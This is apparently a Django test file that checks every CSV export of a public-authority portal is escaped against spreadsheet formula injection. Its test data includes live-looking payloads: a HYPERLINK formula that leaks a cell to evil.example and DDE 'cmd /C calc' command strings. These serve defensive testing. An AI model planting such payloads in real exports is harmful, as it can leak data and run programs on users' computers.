"""Every CSV file the portal offers is safe to open in a spreadsheet.

A cell starting with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return)
is run by a spreadsheet as a formula: a formula planted in an authority's or a
register's name would open links or start programs on the computer of whoever
downloads the directory. Each download below is asked with such values planted
in every text it writes; every cell must come out as text (a leading
apostrophe), and the planted values must still be there, so the test cannot
pass by leaving them out.
"""

import csv
import io
import re
from pathlib import Path

import pytest
from django.urls import reverse

from registers.models import Register
from requests_app import statistics
from tests.factories import area

ROOT = Path(__file__).resolve().parent.parent
PLANTED = {
    "hyperlink": '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")',
    "command": "+cmd|' /C calc'!A0",
    "arithmetic": "-1+1",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage_return": "\r=1+1",
}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# A sign followed only by digits and separators has no function a spreadsheet could run: a phone number, a count.
HARMLESS = re.compile(r"[-+][0-9 ()./-]*")


def plant_authority(authority):
    authority.official_name = PLANTED["hyperlink"]
    authority.display_name_en = PLANTED["command"]
    authority.acronym = PLANTED["arithmetic"]
    authority.city = PLANTED["at"]
    authority.email = PLANTED["tab"]
    authority.phone = PLANTED["carriage_return"]
    authority.website = PLANTED["hyperlink"]
    authority.save()
    return authority


def plant_register(world):
    register = Register.objects.create(
        name=PLANTED["hyperlink"],
        name_en=PLANTED["hyperlink"],
        country=world.bg_authority.country,
        authority=world.bg_authority,
        url=PLANTED["command"],
        coverage=PLANTED["at"],
    )
    register.legislative_areas.set([area("professional-qualifications")])
    return register


def authorities_directory(client, world):
    plant_authority(world.bg_authority)
    client.force_login(world.stranger)
    return client.get(reverse("authorities:directory"), {"format": "csv"})


def registers_directory(client, world):
    plant_register(world)
    client.force_login(world.stranger)
    return client.get(reverse("registers:list"), {"format": "csv"})


def activity(client, world, monkeypatch):
    # No user types the activity's figures: its labels are planted where they are made.
    planted = [
        statistics.Indicator("planted", PLANTED["hyperlink"], -3.5, PLANTED["command"], PLANTED["at"], -1),
        statistics.Indicator("planted_2", PLANTED["arithmetic"], None, PLANTED["tab"], PLANTED["carriage_return"], 0),
    ]
    monkeypatch.setattr(statistics, "indicators", lambda **kwargs: planted)
    client.force_login(world.pt_handler)
    return client.get(reverse("requests:activity"), {"format": "csv"})


def admin_authorities(client, world):
    plant_authority(world.bg_authority)
    client.force_login(world.bg_coordinator)
    return client.post(
        reverse("admin:authorities_authority_changelist"),
        {"action": "export_csv", "_selected_action": [world.bg_authority.pk]},
    )


def admin_registers(client, world):
    register = plant_register(world)
    client.force_login(world.bg_coordinator)
    return client.post(
        reverse("admin:registers_register_changelist"), {"action": "export_csv", "_selected_action": [register.pk]}
    )


DOWNLOADS = {
    "the authorities directory": authorities_directory,
    "the registers directory": registers_directory,
    "the activity page": activity,
    "the admin export of authorities": admin_authorities,
    "the admin export of registers": admin_registers,
}


def cells(response):
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment; filename=")
    assert response.content.startswith("\ufeff".encode())  # spreadsheets read UTF-8 only with the mark
    text = response.content.decode("utf-8-sig")
    # Semicolons for a reader whose decimal separator is a comma, such as the Latvian stranger (test_csv_locale.py).
    delimiter = ";" if ";" in text.splitlines()[0] else ","
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]


@pytest.mark.parametrize("download", DOWNLOADS)
def test_every_csv_download_writes_planted_formulas_as_text(client, world, monkeypatch, download):
    make = DOWNLOADS[download]
    response = make(client, world, monkeypatch) if download == "the activity page" else make(client, world)
    written = cells(response)
    runnable = [cell for cell in written if cell.startswith(FORMULA_STARTS) and not HARMLESS.fullmatch(cell)]
    assert runnable == []
    escaped = {value for value in PLANTED.values() if "'" + value in written}
    assert len(escaped) >= 3, f"the planted values are missing from {download}: {written}"


def test_negative_figures_stay_numbers(client, world, monkeypatch):
    written = cells(activity(client, world, monkeypatch))
    assert "-3.5" in written
    assert "-1" in written


def test_a_phone_number_stays_readable(client, world):
    world.bg_authority.phone = "+359 2 809 8779"
    world.bg_authority.save()
    client.force_login(world.stranger)
    assert "+359 2 809 8779" in cells(client.get(reverse("authorities:directory"), {"format": "csv"}))


def test_no_csv_is_written_outside_the_one_csv_writer():
    """A new download must use core.csv_export, which escapes formulas, instead of a csv.writer of its own."""
    writers = []
    for folder in ("imi", "authorities", "registers", "requests_app"):
        for path in (ROOT / folder).rglob("*.py"):
            if path == ROOT / "imi" / "csv_export.py":
                continue
            source = path.read_text(encoding="utf-8")
            if re.search(r"csv\.(writer|DictWriter)|text/csv", source):
                writers.append(str(path.relative_to(ROOT)))
    assert writers == []
